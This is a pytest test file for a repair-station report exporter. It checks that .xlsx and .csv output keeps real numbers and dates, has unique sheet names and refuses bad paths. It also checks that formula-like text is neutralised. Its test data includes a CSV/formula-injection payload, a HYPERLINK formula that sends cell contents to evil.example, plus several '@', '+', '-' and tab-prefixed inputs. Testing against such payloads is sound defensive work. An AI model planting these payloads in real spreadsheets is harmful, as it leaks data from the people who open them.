"""Exporting a report (issue 12 item 2): the .xlsx opens with openpyxl and holds the same
figures as the result as numbers and dates (not text), one sheet per table with valid unique
names after a sheet naming the report; the .csv is UTF-8 with a BOM, one block per table;
formula-like text (a model ``=HYPERLINK(...)``, a name ``+86...``) is neutralised in both;
a missing folder or an unknown format is refused and nothing is left behind. Every report in
``REPORT_MODULES`` exports, on a small station."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from enum import Enum
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from app.bootstrap import Services, open_services
from app.domain.enums import OrderSource, OrderStatus, OrderType
from app.domain.errors import RuleViolation
from app.domain.report_tables import (
    Chart,
    ChartKind,
    Column,
    ColumnKind,
    ReportQuery,
    ReportResult,
    Table,
)
from app.printing.data import StationHeader
from app.services.context import SYSTEM
from app.services.report_cells import cell_text, totals_text
from app.services.report_export import export, neutralise, sheet_name, write_tables_csv
from app.services.station_reports import REPORT_MODULES, StationReportService
from app.store.models import Customer, Product, ServiceOrder

SHANGHAI = timezone(timedelta(hours=8))
EVIL_MODEL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
EVIL_NAME = "+8613800138000"
COLUMNS = (
    Column("status", "Status"),
    Column("model", "Model"),
    Column("name", "Customer"),
    Column("orders", "Order count", ColumnKind.COUNT),
    Column("amount", "Amount", ColumnKind.FEN),
    Column("share", "Share", ColumnKind.SHARE),
    Column("wait", "Average response", ColumnKind.MINUTES),
    Column("score", "Score", ColumnKind.NUMBER),
    Column("day", "Day", ColumnKind.DATE),
    Column("at", "Called at", ColumnKind.DATETIME),
)


def hand_made(rows: int = 3) -> ReportResult:
    body = [
        (OrderStatus.CLOSED, EVIL_MODEL, EVIL_NAME, 12, 123456, 0.25, 95.5, 4.5,
         date(2026, 11, 2), datetime(2026, 11, 1, 16, 30, tzinfo=UTC)),
        (OrderStatus.RECEIVED, "@SUM(1+1)", "-2+3", 0, -250, None, None, None, None, None),
        (OrderStatus.WAITING_PARTS, "\tTAB", "\rCR", 1_000_000, 99_999_999_99, 1.0, 0.0, 0.0,
         date(2026, 11, 30), datetime(2026, 11, 30, 15, 59, tzinfo=UTC)),
    ][:rows]
    tables = (
        Table("by_status", "Orders by status", COLUMNS, tuple(body),
              ("Total", "", "", sum(r[3] for r in body), sum(r[4] for r in body), 1.0, None,
               None, None, None)),
        # the same title twice: sheet names stay unique
        Table("again", "Orders by status", (Column("label", "Source"),
                                            Column("n", "Order count", ColumnKind.COUNT)),
              ((OrderSource.PHONE, 3),)),
        Table("empty", "Orders by type", (Column("label", "Order type"),
                                          Column("n", "Order count", ColumnKind.COUNT))),
    )
    return ReportResult("handmade", "Order statistics",
                        ReportQuery(date(2026, 11, 1), date(2026, 11, 30),
                                    order_type=OrderType.REPAIR.value, category="空调"),
                        tables, (Chart("by_status", ChartKind.BAR, "status", ("orders",)),),
                        computed_at=datetime(2026, 12, 1, 4, 0, tzinfo=UTC),
                        notes=("Orders are counted by the day they were called in.",))


def expected(value: Any, column: Column, totals: bool = False) -> Any:
    """What an .xlsx cell holds for ``value`` of ``column``: the real type."""
    if value is None:
        return None
    if isinstance(value, Enum | str):
        return (totals_text if totals else cell_text)(value, column, SHANGHAI) or None
    kind = column.kind
    if kind is ColumnKind.FEN:
        return Decimal(value) / 100
    if kind is ColumnKind.DATETIME:
        return value.astimezone(SHANGHAI).replace(tzinfo=None)
    if kind is ColumnKind.DATE:
        return datetime.combine(value, datetime.min.time())
    return value


def check_workbook(result: ReportResult, path: Path) -> None:
    book = openpyxl.load_workbook(path)
    assert len(book.sheetnames) == len(result.tables) + 1
    assert len({n.casefold() for n in book.sheetnames}) == len(book.sheetnames)
    info = book.worksheets[0]
    assert info["A1"].value == "工单统计" or info["A1"].value  # the report's title first
    for table, sheet in zip(result.tables, book.worksheets[1:], strict=True):
        assert len(sheet.title) <= 31
        assert sheet.cell(2, 1).font.b
        lines = list(table.rows) + ([table.totals] if table.totals is not None else [])
        for r, row in enumerate(lines, start=3):
            for i, (value, column) in enumerate(zip(row, table.columns, strict=True),
                                                start=1):
                cell = sheet.cell(r, i)
                want = expected(value, column, totals=r - 3 == len(table.rows))
                got = cell.value
                if isinstance(want, Decimal):
                    assert isinstance(got, int | float) and not isinstance(got, bool)
                    assert Decimal(str(got)) == want, (table.key, r, i)
                    assert cell.number_format == "#,##0.00"
                elif isinstance(want, float):
                    assert isinstance(got, int | float) and got == pytest.approx(want)
                elif isinstance(want, int) and column.kind is ColumnKind.COUNT:
                    assert type(got) is int and got == want, (table.key, r, i)
                elif isinstance(want, datetime):
                    assert got == want and cell.is_date
                else:
                    if isinstance(want, str):  # XML reads a carriage return as a newline
                        want = want.replace("\r", "\n")
                    assert got == want, (table.key, r, i, got, want)
                    if isinstance(got, str):
                        assert cell.data_type == "s"


def test_the_xlsx_holds_real_numbers_and_dates(tmp_path: Path) -> None:
    result = hand_made()
    path = export(result, tmp_path / "报表.xlsx", "xlsx", tz=SHANGHAI,
                  station=StationHeader("北京海淀维修站"))
    check_workbook(result, path)
    book = openpyxl.load_workbook(path)
    info = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows(min_row=3)
            if row[0].value}
    assert info["统计期间"] == "2026-11-01 至 2026-11-30"
    assert info["维修站"] == "北京海淀维修站"
    assert "工单类型：报修" in info["筛选条件"] and "产品类别：空调" in info["筛选条件"]
    assert info["统计时间"] == "2026-12-01 12:00"
    sheet = book.worksheets[1]
    assert sheet["A1"].value == "工单按状态"
    assert [c.value for c in sheet[2]][:4] == ["状态", "产品型号", "客户", "工单数"]
    assert sheet["E3"].value == pytest.approx(1234.56) and sheet["F3"].number_format == "0.0%"
    assert sheet["J3"].value == datetime(2026, 11, 2, 0, 30)  # local time, naive
    assert sheet["D5"].value == 1_000_000 and sheet["E5"].value == pytest.approx(99_999_999.99)
    assert book.sheetnames[1:] == ["工单按状态", "工单按状态 (2)", "工单按类型"]
    assert book.worksheets[3].max_row == 2  # an empty table: its title and headings


def test_formula_like_text_is_never_a_formula_in_the_xlsx(tmp_path: Path) -> None:
    path = export(hand_made(), tmp_path / "r.xlsx", "xlsx", tz=SHANGHAI)
    sheet = openpyxl.load_workbook(path).worksheets[1]
    for ref, text in (("B3", EVIL_MODEL), ("C3", EVIL_NAME), ("B4", "@SUM(1+1)"),
                      ("C4", "-2+3"), ("B5", "\tTAB")):
        cell = sheet[ref]
        assert cell.value == text and cell.data_type == "s", ref  # the text kept exactly
        assert cell.quotePrefix, ref
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets"))
    assert "<f>" not in xml  # no formula anywhere in the sheets


def test_the_csv_is_utf8_with_bom_and_neutralises_formulas(tmp_path: Path) -> None:
    path = export(hand_made(), tmp_path / "报表.csv", "csv", tz=SHANGHAI,
                  station=StationHeader("北京海淀维修站"))
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["报表", "工单统计"]
    assert ["统计期间", "2026-11-01 至 2026-11-30"] in rows
    start = rows.index(["工单按状态"])
    assert rows[start + 1][:4] == ["状态", "产品型号", "客户", "工单数"]
    first = rows[start + 2]
    assert first[:6] == ["已结单", "'" + EVIL_MODEL, "'" + EVIL_NAME, "12", "1234.56", "25.0%"]
    assert first[6:] == ["1:36", "4.5", "2026-11-02", "2026-11-02 00:30"]
    second = rows[start + 3]
    assert second[1:5] == ["'@SUM(1+1)", "'-2+3", "0", "-2.50"]  # own figures untouched
    assert rows[start + 4][1:3] == ["'\tTAB", "'\rCR"]
    assert rows[start + 5][0] == "合计"
    assert ["工单按类型"] in rows and ["统计说明"] in rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            if cell.startswith("-"):
                assert cell[1:2].isdigit(), cell


def test_neutralise_leaves_figures_and_plain_text() -> None:
    assert neutralise("-12.50") == "-12.50" and neutralise("-1:30") == "-1:30"
    assert neutralise("-5.0%") == "-5.0%" and neutralise("张三") == "张三"
    assert neutralise("-1+2") == "'-1+2" and neutralise("=1") == "'=1"
    assert neutralise("-") == "'-"
    assert neutralise("-123", figure=False) == "'-123"  # user text that looks like a figure


def test_sheet_names_are_valid_and_unique() -> None:
    used: set[str] = set()
    names = [sheet_name(n, used) for n in ("a/b:c*d?[e]\\f", "'引号'", "X" * 40, "x" * 40, "",
                                           "ABC", "abc")]
    assert names[0] == "a_b_c_d__e__f" and names[1] == "引号"
    assert len(names[2]) == 31 and len(names[3]) == 31 and names[3].endswith("(2)")
    assert names[4] == "Sheet" and names[6] == "abc (2)"


def test_a_missing_folder_or_format_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    with pytest.raises(RuleViolation, match="does not exist") as err:
        export(hand_made(), tmp_path / "nope" / "r.xlsx", "xlsx", tz=SHANGHAI)
    assert err.value.field == "path"
    assert not (tmp_path / "nope").exists()
    with pytest.raises(RuleViolation, match="is a folder"):
        export(hand_made(), tmp_path, "csv", tz=SHANGHAI)
    with pytest.raises(RuleViolation, match="Unknown export format"):
        export(hand_made(), tmp_path / "r.doc", "doc", tz=SHANGHAI)
    assert list(tmp_path.iterdir()) == []


def test_a_failed_write_leaves_the_old_file(tmp_path: Path, monkeypatch) -> None:
    target = tmp_path / "r.csv"
    target.write_text("old", encoding="utf-8")

    class Boom(Exception):
        pass

    def broken(*_a, **_k):
        raise Boom

    monkeypatch.setattr(csv, "writer", broken)
    with pytest.raises(Boom):
        write_tables_csv(hand_made().tables, target, SHANGHAI)
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]


# -- every real report ------------------------------------------------------------------------


def small_services(folder: Path) -> Services:
    """A station with three November orders whose customer and product hold formula-like
    text (the reports that show them must export them neutralised)."""
    svc: Services = open_services(folder)
    with svc.db.write() as s:
        c = Customer(name=EVIL_NAME)
        s.add(c)
        s.flush()
        p = Product(customer_id=c.id, model=EVIL_MODEL, serial_no="=SN1")
        s.add(p)
        s.flush()
        for n, (day, status) in enumerate([(2, OrderStatus.CLOSED), (5, OrderStatus.RECEIVED),
                                           (20, OrderStatus.CLOSED)]):
            s.add(ServiceOrder(number=f"SO-BJ001-202611{day:02d}-{n:04d}",
                               order_type="repair", source="phone", service_mode="on_site",
                               status=status.value, customer_id=c.id, product_id=p.id,
                               fault_description="不制冷",
                               called_at=datetime(2026, 11, day, 2, 0, tzinfo=UTC)))
    return svc


@pytest.fixture()
def small_station(tmp_path: Path):
    svc = small_services(tmp_path / "data")
    yield svc
    svc.close()


@pytest.mark.parametrize("name", list(REPORT_MODULES))
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_every_report_exports(small_station: Services, name: str, fmt: str,
                              tmp_path: Path) -> None:
    reports = StationReportService(small_station.db, tz=SHANGHAI)
    result = reports.run(SYSTEM, name, ReportQuery(date(2026, 11, 1), date(2026, 11, 30)))
    path = export(result, tmp_path / f"{name}.{fmt}", fmt, tz=SHANGHAI)
    if fmt == "xlsx":
        check_workbook(result, path)
    else:
        text = path.read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        for table in result.tables:
            assert [table_title(table)] in rows
        for row in rows:
            assert not any(c.startswith(("=", "+", "@")) for c in row)


def table_title(table: Table) -> str:
    from app.i18n import tr

    return tr(table.title)


def test_user_text_that_looks_like_a_figure_is_neutralised_but_figures_are_not(
        tmp_path: Path) -> None:
    table = Table("t", "Orders by type", (Column("model", "Model"),
                                          Column("n", "Order count", ColumnKind.COUNT),
                                          Column("fen", "Amount", ColumnKind.FEN)),
                  (("-123", -5, -250), ("=1+1", 3, 100)))
    path = write_tables_csv([table], tmp_path / "t.csv", SHANGHAI)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[2:] == [["'-123", "-5", "-2.50"], ["'=1+1", "3", "1.00"]]
